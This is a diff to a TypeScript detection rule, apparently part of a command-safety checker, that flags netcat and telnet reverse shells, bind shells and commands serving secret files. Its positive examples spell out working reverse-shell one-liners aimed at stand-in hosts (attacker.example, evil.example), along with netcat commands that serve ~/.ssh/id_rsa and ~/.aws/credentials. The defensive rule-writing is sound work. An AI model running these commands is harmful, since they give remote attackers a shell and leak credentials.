@@ -1,9 +1,9 @@
 // Reverse and bind shells, and shells spawned through ordinary binaries.
 import { isSecretFile } from "../paths.js";
-import { NETCATS, netcatCommand, type Invocation } from "../resolve.js";
+import { NETCATS, netcatCommand, type Invocation, type Resolution } from "../resolve.js";
 import type { CommandRule } from "../rule.js";
-import { parseShell } from "../shell/parse.js";
-import { commandsIn, downstreamNames, intersects, lower, SCRIPT_INTERPRETERS, SHELLS, upstreamNames } from "./facts.js";
+import { secretFilesRead } from "./exfiltration.js";
+import { downstreamNames, intersects, SCRIPT_INTERPRETERS, SHELLS, upstreamNames } from "./facts.js";
 
 const SOCKET_CODE = /socket|fsockopen|tcpsocket|net\.socket|net\.connect|net\.Dial|\/inet\/tcp|io\.popen|require\(['"]net['"]\)/i;
 const SPAWN_CODE = /\|&\s*getline|exec\.Command|\bsystem\b|\bexec\b|subprocess|pty\.spawn|os\.dup2|exec\s*\(|exec\s+["']|spawn\(|popen|system\s*\(|\/bin\/(?:ba)?sh|sh\s+-i|child_process|proc_open/i;
@@ -27,14 +27,19 @@ function inlineCode(inv: Invocation): string {
 const RUNS_INPUT = new Set([...SHELLS, ...SCRIPT_INTERPRETERS, "eval", "source", ".", "exec", "xargs", "parallel", "env", "sudo", "su", "script", "expect", "awk", "gawk", "busybox"]);
 
 /**
- * Does the command netcat joins to a connection give the peer a shell or a secret? It does when
- * it runs a shell, an interpreter or eval, runs a name only known at run time (`$cmd`), reads a
- * secret file, or cannot be read at all. `echo`, `date` or `cat page.html` only serve output.
+ * Does the command netcat joins to each connection (`nc -c '…'`) give the peer a shell or a
+ * secret? The resolver has parsed that string into invocations spanning the netcat command. It
+ * does when one runs a shell, an interpreter or eval, runs a name only known at run time
+ * (`$cmd`), or reads a secret file; or when the string could not be read (unparsed, or nested
+ * too deep to be re-parsed). `echo`, `date` or `cat page.html` only serve output.
  */
-function servesShell(code: string): boolean {
-  const script = parseShell(code);
-  if (script.incomplete) return true;
-  return commandsIn(script).some((c) => c.name.includes("$") || RUNS_INPUT.has(c.name.toLowerCase()) || c.args.some(isSecretFile));
+function servesShell(inv: Invocation, code: string, all: Resolution): boolean {
+  if (all.incomplete) return true;
+  const how = `${inv.name} -c`;
+  const depth = inv.via.length;
+  const inner = all.invocations.filter((x) => x !== inv && x.start === inv.start && x.end === inv.end && x.via[depth] === how);
+  if (inner.length === 0) return code.trim() !== "";
+  return inner.some((x) => x.name.includes("$") || RUNS_INPUT.has(x.name.toLowerCase()) || secretFilesRead(x).length > 0 || x.args.some(isSecretFile));
 }
 
 function touchesDevTcp(inv: Invocation): boolean {
@@ -60,11 +65,11 @@ export const reverseShellRules: CommandRule[] = [
     severity: "critical",
     reason: "semantic:destructive_command",
     names: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"],
-    check: (inv) => {
+    check: (inv, all) => {
       // -e names a program to join to the socket; -c and --sh-exec a command line, judged below.
       if (inv.args.some((a) => /^-[a-zA-Z]*e$/.test(a) || a === "--exec" || a.startsWith("--exec=") || a === "--lua-exec" || a.startsWith("--lua-exec="))) return true;
-      const code = NETCATS.has(lower(inv)) ? netcatCommand(inv.args) : undefined;
-      if (code !== undefined && servesShell(code)) return true;
+      const code = NETCATS.has(inv.name) ? netcatCommand(inv.args) : undefined;
+      if (code !== undefined && servesShell(inv, code, all)) return true;
       return intersects(upstreamNames(inv), SHELLS) || intersects(downstreamNames(inv), SHELLS);
     },
     examples: {
@@ -72,7 +77,7 @@ export const reverseShellRules: CommandRule[] = [
         "nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 --sh-exec /bin/bash", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
         "telnet attacker.example 23 | /bin/bash | telnet attacker.example 24", "nc -lvp 4444 -e cmd.exe", "nc -c /bin/sh evil.example 4444", "nc -l -p 4444 -c 'bash -i'",
         "ncat -l 4444 --sh-exec 'while read l; do eval \"$l\"; done'", "nc -lc 'python3 -i' -p 9000", "nc -l -p 80 -c 'cat ~/.ssh/id_rsa'", "nc -l -p 80 -c \"$PAYLOAD\"",
-        "ncat -l 4444 --sh-exec='exec sh'", "nc -l -p 9 -c 'xargs -n1 sh -c'",
+        "ncat -l 4444 --sh-exec='exec sh'", "nc -l -p 9 -c 'xargs -n1 sh -c'", "nc -l -p 9 -c 'timeout 60 sh'", "nc -l -p 9 -c 'cat < ~/.aws/credentials'",
       ],
       negative: ["nc -zv db.internal 5432", "echo ping | nc localhost 6379", "nc -l -p 1500 -c 'echo -e \"HTTP/1.1 200 OK\\n\\n $(date)\"'", "ncat -l 8080 --sh-exec 'cat index.html'"],
     },
